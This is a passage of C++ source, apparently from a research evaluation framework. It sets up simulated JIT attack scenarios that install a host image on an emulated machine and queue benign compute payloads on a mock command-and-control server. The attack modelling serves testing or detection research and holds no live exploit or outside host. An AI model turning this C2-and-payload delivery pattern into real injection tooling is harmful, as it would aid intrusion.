        c2->queue_response(Bytes(128, 0x5a));  // opaque blob, never executed
      } else {
        c2->queue_response(Bytes{'r', 'u', 'n'});
      }
    }
  }
  return c2;
}

// ---------------------------------------------------------------------------
// Table III JIT workloads.

Result<void> JitScenario::setup(os::Machine& m) {
  auto r = install_image(m, std::string(kSampleDir) + host_,
                         build_jit_host(host_));
  if (!r.ok()) return r;
  auto pid = m.kernel().spawn(std::string(kSampleDir) + host_);
  if (!pid.ok()) return Err<void>(pid.error().message);
  return Ok();
}

std::unique_ptr<os::EventSource> JitScenario::make_source() {
  PayloadSpec spec;
  spec.action = linking_ ? PayloadAction::kLinkedCompute
                         : PayloadAction::kCompute;
  spec.ending = PayloadEnding::kRet;
  spec.compute_iters = 96;
  auto payload = build_payload(spec);
  auto c2 = std::make_unique<C2Server>();
  if (payload.ok()) c2->queue_response(payload.value());
  return c2;
}

}  // namespace faros::attacks
